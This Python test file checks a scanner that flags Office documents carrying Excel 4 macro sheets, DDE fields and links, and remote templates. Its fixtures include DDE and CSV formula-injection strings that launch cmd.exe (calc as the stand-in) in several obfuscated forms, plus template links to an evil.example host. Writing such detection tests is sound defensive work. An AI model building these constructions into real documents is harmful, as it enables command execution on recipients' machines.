"""Office documents that act without macros: Excel 4 sheets, DDE, remote templates."""

from __future__ import annotations

import struct

import pytest

from tests.samples.archives import plain_zip
from tests.samples.office import (
    BOF,
    CONTENT_TYPES,
    EOF,
    doc,
    docx,
    record,
    workbook,
    xls,
)

from ..scanned import found

# Excel 4 macros.

MACRO_SHEET = record(0x0085, struct.pack("<IBB", 0, 0, 1) + b"\x06\x00Macro1")


def book_with_macro_sheet(*cells: bytes) -> bytes:
    head = workbook(MACRO_SHEET)
    sheet = record(0x0809, struct.pack("<HHHHII", 0x0600, 0x0040, 0, 0, 0, 0)) + b"".join(cells) + EOF
    return xls(head.replace(MACRO_SHEET[:8], MACRO_SHEET[:4] + struct.pack("<I", len(head))) + sheet)


def typed(part: str, kind: str) -> dict[str, bytes]:
    entry = f'<Override PartName="{part}" ContentType="{kind}"/></Types>'.encode()
    return {"[Content_Types].xml": CONTENT_TYPES.replace(b"</Types>", entry)}


@pytest.mark.parametrize(
    ("data", "findings"),
    [
        (book_with_macro_sheet(record(0x0006, bytes(30))), {"office-xlm-macro"}),
        (book_with_macro_sheet(record(0x0203, bytes(14))), set()),
        (
            xls(workbook(MACRO_SHEET[:4] + b"\xff" * 4 + MACRO_SHEET[8:])),
            {"office-xlm-macro"},
        ),  # the sheet itself cannot be read
        (xls(workbook(record(0x0085, struct.pack("<IBB", 0, 0, 0) + b"\x06\x00Table1"))), set()),
        (record(0x0409, struct.pack("<HHH", 0, 0x40, 0)) + record(0x0206, bytes(20)), {"office-xlm-macro"}),
        (b"ID;P\r\nO;E\r\nNN;Nauto_open;ER1C1\r\nC;X1;Y1;EEXEC()\r\nE\r\n", {"office-xlm-macro"}),
        (b"ID;PWXL;N;E\r\nC;X1;Y1;K1\r\nE\r\n", set()),
        (b"ID;P\r\nC;X1;Y1;K0;EMSEXCEL|'\\..\\System32\\cmd.exe /c calc'!''\r\nE\r\n", {"office-dde"}),
        (b"ID;P\nC;X1;Y1;K0;E1+SUM(2)+cmd|'/c calc'!A0\nE\n", {"office-dde"}),
        (b"ID;P\nNN;Nx;Ecmd|'/c calc'!A0\nE\n", {"office-dde"}),
        (b"C;X1;Y1;K0;Ecmd|'/c calc'!A0\n", set()),
        (b'ID;P\nC;X1;Y1;K"Either|or!x"\nC;X1;Y2;K0;ER[-1]C\nE\n', set()),
        (plain_zip(typed("/xl/s1.xml", "application/vnd.ms-excel.macrosheet+xml")), {"office-xlm-macro"}),
        (plain_zip(typed("/xl/s1.bin", "application/vnd.ms-excel.intlmacrosheet")), {"office-xlm-macro"}),
        (docx(extra={"xl/x.xml": b'<?xml version="1.0"?>\n<xm:macrosheet xmlns="y">'}), {"office-xlm-macro"}),
    ],
)
def test_excel_4_macros(data: bytes, findings: set[str]):
    assert found(data) == findings


# DDE.


def field(*runs: str) -> bytes:
    cut = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
    return (
        f'<w:document><w:fldChar w:fldCharType="begin"/>{cut}<w:fldChar w:fldCharType="separate"/>x'
        '<w:fldChar w:fldCharType="end"/></w:document>'
    ).encode()


QUOTED = "QUOTE " + " ".join(str(ord(c)) for c in "DDEAUTO")
DDE = {
    "field": docx(field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')),
    "field, cut": docx(field("D", "DE", "AUTO cmd")),
    "field, entities": docx(field("&#68;DE cmd")),
    "field, other prefix": docx(field("DDE cmd").replace(b"w:", b"x:")),
    "field, without prefix": docx(field("DDE cmd").replace(b"w:", b"")),
    "field, quoted in numbers": docx(field(QUOTED, " cmd")),
    "field, nested": docx(
        b'<w:fldChar w:fldCharType="begin"/><w:fldChar w:fldCharType="begin"/><w:instrText>'
        + QUOTED.encode()
        + b'</w:instrText><w:fldChar w:fldCharType="end"/><w:instrText> cmd</w:instrText>'
        b'<w:fldChar w:fldCharType="end"/>'
    ),
    "simple field": docx(b'<w:document><w:fldSimple w:instr=" DDE cmd "/></w:document>'),
    "simple field, single quotes": docx(b"<w:document><w:fldSimple w:instr=' DDE cmd '/></w:document>"),
    "field in a footer, utf-16": docx(extra={"word/footer1.xml": field("DDE cmd").decode().encode("utf-16")}),
    "xlsx link": docx(
        extra={"xl/externalLinks/e.xml": b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c">'}
    ),
    "xlsb link": docx(
        extra={"xl/externalLinks/e.bin": b"\xe8\x02\x26\x01\x00\x03\x00\x00\x00c\x00m\x00d\x00" + bytes(30)}
    ),
    "doc field": doc(None, b"\x13 DDEAUTO cmd /k calc \x14 x\x15"),
    "doc field, wide": doc(None, "\x13 DDE cmd /k calc \x14 x\x15".encode("utf-16-le")),
    "xls link": xls(workbook(record(0x01AE, struct.pack("<HHB", 1, 11, 0) + b"cmd\x03/c calc"))),
    "xls 95 link": xls(
        BOF.replace(b"\x00\x06", b"\x00\x05") + record(0x0017, b"\x0bcmd\x03/c calc") + EOF, "Book"
    ),
    "excel 2003 xml": b'<?xml version="1.0"?><Workbook><Cell ss:Formula="=cmd|\'/c calc\'!A1"/></Workbook>',
    "csv": b"a,b\r\n=cmd|'/k calc'!A0,1\r\n",
    "csv, quoted": b"a;\"+cmd|'/k calc'!A0\"\r\n",
    "rtf": b"{\\rtf1{\\field{\\*\\fldinst { DDEAUTO cmd /k}}{\\fldrslt x}}}",
    "rtf, escaped": b"{\\rtf1{\\field{\\*\\fldinst {\\b D}{\\'44E cmd}}}}",
}


@pytest.mark.parametrize("data", DDE.values(), ids=DDE.keys())
def test_dde_is_found(data: bytes):
    assert found(data) == {"office-dde"}


@pytest.mark.parametrize("before", [-1, 0, 1, 2])
def test_dde_by_its_function_wherever_the_search_pauses(before: int):
    data = b"a,b\r\n".ljust((1 << 20) - before, b"x") + b'\n=DdE ("cmd","/c calc")\n'
    assert found(data) == {"office-dde"}


@pytest.mark.parametrize(
    "data",
    [
        docx(field("HYPERLINK x")),
        docx(field("ADDED DDEX")),
        docx(b"<w:document><w:t>DDEAUTO is a field</w:t></w:document>"),
        doc(None, b"text about DDE fields"),
        xls(workbook(record(0x01AE, struct.pack("<HHB", 1, 9, 0) + b"\x01\x03a.xls|x"))),
        xls(workbook(record(0x01AE, struct.pack("<HH", 1, 0x0401)))),
        b"a,b\r\n=SUM(A1)|x,1\r\n",
        b"a table | of | columns!\r\n- item|x!\r\n",
        b"see http://x/a=b|c'!d\r\n",
        b"{\\rtf1{\\field{\\*\\fldinst HYPERLINK dde}}}",
    ],
)
def test_what_only_looks_like_dde(data: bytes):
    assert found(data) == set()


# Remote templates.


def relation(kind: str, target: str, mode: str = ' TargetMode="External"') -> bytes:
    space = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    text = (
        f'<Relationships><Relationship Id="r1" Type="{space}{kind}" Target="{target}"{mode}/></Relationships>'
    )
    return docx(extra={"word/_rels/settings.xml.rels": text.encode()})


@pytest.mark.parametrize(
    ("data", "findings"),
    [
        (relation("attachedTemplate", "https://evil.example/t.dotm"), {"office-remote-template"}),
        (relation("attachedTemplate", "HTTP://evil.example/t"), {"office-remote-template"}),
        (relation("attachedTemplate", "\\\\evil.example\\share\\t.dotm"), {"office-remote-template"}),
        (relation("attachedTemplate", "file:///\\\\evil.example\\share\\t.dotm"), {"office-remote-template"}),
        (relation("attachedTemplate", "file:///C:\\Templates\\Normal.dotm"), set()),
        (relation("attachedTemplate", "Normal.dotm"), set()),
        (relation("attachedTemplate", "&#104;ttps://evil.example/"), {"office-remote-template"}),
        (relation("oleObject", "mhtml:https://evil.example/x!y"), {"office-remote-template"}),
        (relation("frame", "https://evil.example/"), {"office-remote-template"}),
        (relation("hyperlink", "https://fine.example/"), set()),
        (relation("image", "https://fine.example/a.png"), set()),
        (b"{\\rtf1{\\*\\template https://evil.example/t.dotm}}", {"office-remote-template"}),
        (b"{\\rtf1{\\*\\template \\u104?ttp://evil.example/}}", {"office-remote-template"}),
        (b"{\\rtf1{\\*\\template C:\\\\Normal.dotm}}", set()),
    ],
)
def test_remote_templates(data: bytes, findings: set[str]):
    assert found(data) == findings


def sheet(kind: int, *cells: bytes) -> bytes:
    return record(0x0809, struct.pack("<HHHHII", 0x0600, kind, 0, 0, 0, 0)) + b"".join(cells) + EOF


@pytest.mark.parametrize("hidden", [0, 1, 2])
def test_macro_sheet_that_claims_to_be_another(hidden: int):
    def book(kind: int, claimed: int) -> bytes:
        entry = record(0x0085, struct.pack("<IBB", 0, hidden, claimed) + b"\x05\x00Sheet")
        start = len(workbook(entry))
        entry = record(0x0085, struct.pack("<IBB", start, hidden, claimed) + b"\x05\x00Sheet")
        return xls(workbook(entry) + sheet(kind, record(0x0006, bytes(30))))

    assert found(book(0x0040, 0)) == found(book(0x0040, 1)) == found(book(0x0040, 2)) == {"office-xlm-macro"}
    assert found(book(0x0010, 0)) == set()


def test_macro_sheet_behind_others_without_a_compound_file():
    head = record(0x0409, struct.pack("<HHH", 0, 0x0100, 0))
    table, macros = (record(0x0409, struct.pack("<HHH", 0, kind, 0)) + EOF for kind in (0x0010, 0x0040))
    assert found(head + table) == set()
    assert found(head + table + macros) == {"office-xlm-macro"}
